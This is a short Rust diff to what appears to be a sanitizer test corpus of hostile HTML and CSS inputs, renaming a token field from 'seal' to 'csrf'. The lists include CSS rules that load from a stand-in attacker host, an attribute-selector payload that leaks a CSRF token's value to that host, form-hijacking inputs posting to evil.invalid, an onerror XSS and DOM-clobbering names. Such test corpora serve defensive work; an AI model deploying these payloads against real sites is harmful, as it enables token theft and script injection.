@@ -317,7 +317,7 @@ fn styles() -> Vec<String> {
         format!("<style>@import url({EVIL}/a.css);</style>"),
         format!("<style>body{{background:url({EVIL}/b)}}</style>"),
         format!("<style>@font-face{{font-family:x;src:url({EVIL}/f)}}*{{font-family:x}}</style>"),
-        format!("<style>input[name=seal][value^=a]{{background:url({EVIL}/a)}}</style>"),
+        format!("<style>input[name=csrf][value^=a]{{background:url({EVIL}/a)}}</style>"),
         "<style>*{display:none!important}</style>".to_owned(),
         "<style></style><img src=x onerror=alert(1)></style>".to_owned(),
         "<link rel=stylesheet href=data:text/css,*{display:none}>".to_owned(),
@@ -348,7 +348,7 @@ fn forms() -> Vec<String> {
         "<input type=submit formaction=http://evil.invalid/ form=ruling value=Send>",
         "</form><form action=http://evil.invalid/>",
         "<form id=ruling><input name=attributes><input name=parentNode></form>",
-        "<input type=hidden name=seal value=mine form=ruling>",
+        "<input type=hidden name=csrf value=mine form=ruling>",
         "<textarea name=content form=ruling>my ruling</textarea>",
         "<textarea>",
         "<select><option>",
@@ -484,7 +484,7 @@ fn markdown() -> Vec<String> {
 
 /// Names that would stand for the page's own.
 fn clobbering() -> Vec<String> {
-    ["body", "cookie", "forms", "ruling", "seal", "location", "a-1", "__proto__", "defaultView"]
+    ["body", "cookie", "forms", "ruling", "csrf", "location", "a-1", "__proto__", "defaultView"]
         .iter()
         .flat_map(|name| {
             [
